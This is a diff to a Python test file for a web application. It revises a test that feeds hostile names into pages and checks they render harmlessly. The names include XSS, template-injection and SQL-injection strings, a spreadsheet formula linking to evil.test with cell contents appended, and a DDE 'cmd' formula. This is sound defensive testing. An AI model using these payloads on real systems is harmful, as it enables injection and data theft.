@@ -17,7 +17,7 @@ NAMES = {
     "an image": '"><img src=x onerror=alert(1)>',
     "a way out of an attribute": "' onmouseover='alert(1)' x='\" autofocus onfocus=\"alert(1)",
     "the end of everything": "</title></textarea></style></template></dialog></body></html>",
-    "a template": "{{ 7*7 }} {% include 'layout.html' %} ${7*7} #{7*7}",
+    "a template": "{{ 7777*7777 }} {% include 'layout.html' %} ${7777*7777} #{7777*7777}",
     "a formula": '=HYPERLINK("https://evil.test?x="&A1,"Maya")',
     "other formulas": "+1+cmd|' /C calc'!A0 -2+3 @SUM(1)",
     "SQL": "Robert'); DROP TABLE booking;-- % _ \\",
@@ -85,7 +85,7 @@ async def test_30_a_hostile_name_is_harmless_in_every_page(world: World, sort: s
         inline = {one for one in attributes if one.split(".")[1].startswith("on")}
         assert inline == set(), address
         assert page.count("<script") == page.count('<script src="/static/'), address
-        assert "<img" not in page and "49 " not in page, address
+        assert "<img" not in page and str(7777 * 7777) not in page, address
         if address.startswith("/holds?") or address == "noted":
             assert " ".join(name.split()) in " ".join(text_of(page).split()), address
 
